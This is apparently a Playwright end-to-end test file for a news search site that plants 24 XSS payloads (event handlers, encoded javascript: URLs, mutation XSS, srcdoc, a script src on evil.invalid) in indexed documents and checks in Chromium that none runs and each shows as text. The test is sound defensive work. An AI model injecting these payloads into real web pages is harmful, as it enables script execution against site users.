"""XSS payloads in every input format, served by gunicorn and opened in a real browser.

tests/web and tests/e2e cover the JSON Lines payloads of webcorpus.PAYLOADS. Here
other variants (event handlers of SVG, details, video; entity-encoded, percent-encoded
and mixed-case `javascript:` URLs; mutation-XSS through noscript; base, meta refresh,
form, object, srcdoc; a right-to-left override) go into the titles, bodies, ids,
sources, URLs and datelines of .jsonl records, and into .txt (seed format: the
payload is the dateline), .md (the heading) and .html files (the <title>, text and
live markup of the file itself), each also named after its payload.

Each payload would set `window.__pwned` or open a dialog. In chromium none does, no
element carries an event handler, the only scripts are the site's own, and each
payload is shown as text.

Playwright runs in a thread of its own here: tests/e2e holds a session-long sync
Playwright on the main thread, and two cannot share a thread.
"""
from __future__ import annotations

import html
import json
import sys
import threading
from pathlib import Path
from urllib.parse import quote

import pytest
from relfixtures import Server, newsfacet

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "e2e"))
from e2efixtures import CHROMIUM, CHROMIUM_ARGS, _unavailable  # noqa: E402

pytestmark = pytest.mark.e2e

WORD = "okapi"           # every hostile story holds it
PAYLOADS = [
    "<script>window.__pwned=1;alert(1)</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<IMG SRC=x OnErRoR=window.__pwned=2>",
    "<svg><animate onbegin=window.__pwned=3 attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:window.__pwned=4\"><text x=20 y=20>svg link</text></a></svg>",
    "<details open ontoggle=window.__pwned=5>",
    "<a href=\"&#106;avascript:window.__pwned=6\">entity link</a>",
    "<a href=\"JaVaScRiPt:window.__pwned=7\">mixed case link</a>",
    "<a href=\"java\tscript:window.__pwned=8\">tab link</a>",
    "<iframe srcdoc=\"<script>parent.__pwned=9</script>\"></iframe>",
    "<object data=\"data:text/html,<script>parent.__pwned=10</script>\"></object>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.__pwned=11\">",
    "<base href=\"javascript:window.__pwned=12//\">",
    "<form action=javascript:window.__pwned=13><button>go</button></form>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=14>\">",
    "&lt;img src=x onerror=window.__pwned=15&gt;",
    "&#x3C;script&#x3E;window.__pwned=16&#x3C;/script&#x3E;",
    "%3Cscript%3Ewindow.__pwned=17%3C/script%3E",
    "<input autofocus onfocus=window.__pwned=18>",
    "<video><source onerror=\"window.__pwned=19\"></video>",
    "\u202e<script>window.__pwned=20</script>",
    "<marquee onstart=window.__pwned=21>",
    "{{constructor.constructor('window.__pwned=22')()}}",
    "<math><maction actiontype=statusline xlink:href=javascript:window.__pwned=23>x</maction></math>",
]


def safe_name(p: str, n: int) -> str:
    return f"{n:02d} " + p.replace("/", "_")[:80]


def write_corpus(docs: Path) -> list[dict]:
    """Write the hostile files; return what each story must show: id, title, texts."""
    docs.mkdir()
    stories = []
    records = []
    for n, p in enumerate(PAYLOADS):
        rec = {"id": f"xss-{n}-{p}", "title": f"{p} {WORD} title {n}", "date": f"2019-0{n % 9 + 1}-02",
               "source": p, "url": "JaVaScRiPt:window.__pwned=99" if n % 2 else f"data:text/html,{p}",
               "body": f"{p}, Jan 5 - The {WORD} story {n} holds {p} in its text.\n\nAgain: {p}"}
        records.append(rec)
        stories.append({"id": rec["id"], "title": rec["title"], "texts": [p]})
    (docs / "hostile.jsonl").write_text("\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8")

    for folder in ("txt", "md", "html"):
        (docs / folder).mkdir()
    for n, p in enumerate(PAYLOADS):
        name = safe_name(p, n)
        (docs / "txt" / f"{name}.txt").write_text(
            f" date 2019-10-0{n % 9 + 1} {p}, Oct 1 - The {WORD} seed-format story {n}: {p}\n", encoding="utf-8")
        stories.append({"id": f"txt/{name}.txt", "title": None, "texts": [p]})
        (docs / "md" / f"{name}.md").write_text(f"# {p} {WORD} heading {n}\n\nThe {WORD} markdown story {n}: {p}\n",
                                                encoding="utf-8")
        stories.append({"id": f"md/{name}.md", "title": f"{p} {WORD} heading {n}", "texts": [p]})
        e = html.escape(p)
        (docs / "html" / f"{name}.html").write_text(
            f"<html><head><title>{e} {WORD} page {n}</title><script>window.__pwned=100</script>"
            f"<meta name=date content=2019-11-0{n % 9 + 1}></head><body onload=window.__pwned=101>"
            f"<h1>{e} {WORD} page {n}</h1><p>The {WORD} page {n}: {e}</p>{p}"
            f"<img src=x onerror=window.__pwned=102></body></html>", encoding="utf-8")
        stories.append({"id": f"html/{name}.html", "title": f"{p} {WORD} page {n}", "texts": [p]})
    return stories


def norm(s: str) -> str:
    return " ".join(s.split())


@pytest.mark.timeout(240)
def test_no_payload_runs_and_each_shows_as_text(tmp_path):
    if not Path(CHROMIUM).exists():
        _unavailable(f"{CHROMIUM} not found: install Debian's chromium (apt-get install chromium)")
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        _unavailable("the playwright package is not installed (pip install -e '.[test]')")
    stories = write_corpus(tmp_path / "docs")
    run = newsfacet("index", tmp_path / "docs", "--index-dir", tmp_path / "ix", "--procs", 1)
    assert run.returncode == 0, run.stderr
    server = Server(tmp_path / "ix", workers=1, log=tmp_path / "serve.log")
    outcome: dict = {}
    try:
        t = threading.Thread(target=_drive, args=(server.base, stories, outcome))
        t.start()
        t.join(timeout=200)
        assert not t.is_alive(), "the browser run did not finish"
    finally:
        server.stop()
    if "error" in outcome:
        raise outcome["error"]
    assert outcome["visited"] == len(stories) + len(PAYLOADS) + 3
    assert not outcome["problems"], outcome["problems"][:10]


def _drive(base: str, stories: list[dict], outcome: dict) -> None:
    try:
        from playwright.sync_api import sync_playwright
        problems: list[str] = []
        dialogs: list[str] = []
        visited = 0
        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
            try:
                ctx = browser.new_context()
                ctx.set_default_timeout(10_000)
                page = ctx.new_page()
                page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
                page.on("pageerror", lambda e: problems.append(f"page error: {e}"))

                def visit(url: str, status: int = 200) -> str:
                    nonlocal visited
                    resp = page.goto(url)
                    visited += 1
                    if resp is None or resp.status != status:
                        problems.append(f"{url}: status {resp and resp.status}")
                    page.wait_for_timeout(30)          # let any onerror/onload/onfocus fire
                    bad = page.evaluate("""() => {
                        const out = [];
                        if (window.__pwned !== undefined) out.push('__pwned=' + window.__pwned);
                        for (const el of document.querySelectorAll('*')) {
                            for (const a of el.attributes) {
                                if (a.name.startsWith('on')) out.push(el.tagName + ' ' + a.name);
                                if (/^\\s*(javascript|data|vbscript):/i.test(a.value)) out.push(el.tagName + ' ' + a.name + '=' + a.value);
                            }
                        }
                        for (const s of document.scripts) if (!s.src || new URL(s.src).origin !== location.origin
                            || !new URL(s.src).pathname.startsWith('/static/')) out.push('script ' + s.outerHTML.slice(0, 80));
                        for (const sel of ['iframe', 'object', 'embed', 'base', 'meta[http-equiv]', 'form[action^="javascript"]',
                                           'video', 'marquee', 'math', 'noscript', 'img'])
                            for (const el of document.querySelectorAll(sel)) out.push('element ' + el.outerHTML.slice(0, 80));
                        return out;
                    }""")
                    problems.extend(f"{url}: {b}" for b in bad)
                    return norm(page.inner_text("body"))

                text = visit(f"{base}/?q={WORD}&per_page=100&group=off")
                for s in stories:
                    if s["title"] and norm(s["title"]) not in text:
                        problems.append(f"results: title not shown as text: {s['title']!r}")
                text = visit(f"{base}/?q={WORD}&per_page=100&group=off&page=2")
                for s in stories:
                    url = f"{base}/doc/{quote(s['id'], safe='/')}?q={WORD}"
                    text = visit(url)
                    if s["title"] and norm(s["title"]) not in text:
                        problems.append(f"{s['id']!r}: title not shown as text")
                    for want in s["texts"]:
                        if norm(want) not in text:
                            problems.append(f"{s['id']!r}: {want!r} not shown as text")
                    if norm(s["id"]) not in text:
                        problems.append(f"{s['id']!r}: id not shown as text")
                for p in PAYLOADS:      # the payload as the query and as every filter
                    q = quote(p, safe="")
                    # no such organisation: a 400 naming the value (issue 14), shown as text
                    visit(f"{base}/?q={q}&org={q}&country={q}&region={q}&sort=newest", status=400)
                visit(f"{base}/api/search?q={WORD}")
                ctx.close()
            finally:
                browser.close()
        if dialogs:
            problems.append(f"dialogs opened: {dialogs}")
        outcome.update(problems=problems, visited=visited)
    except BaseException as e:      # re-raised in the test's thread
        outcome["error"] = e
